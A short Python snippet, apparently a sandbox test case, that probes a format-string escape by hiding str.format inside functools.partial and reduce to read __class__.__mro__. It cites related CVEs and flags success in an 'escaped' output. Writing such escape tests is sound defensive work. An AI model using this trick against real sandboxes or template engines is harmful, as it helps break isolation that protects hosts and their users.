# Hides str.format in functools.partial (GHSA-xjw2-6jm9-rf67, CVE-2023-41039; asteval CVE-2025-24359; Jinja CVE-2016-10745)
# off: no-read-guard
from functools import partial, reduce
text = reduce(lambda f, x: f(x), [1], partial(str.format, "{0.__class__.__mro__}"))
if "object" in text: output["escaped"] = text
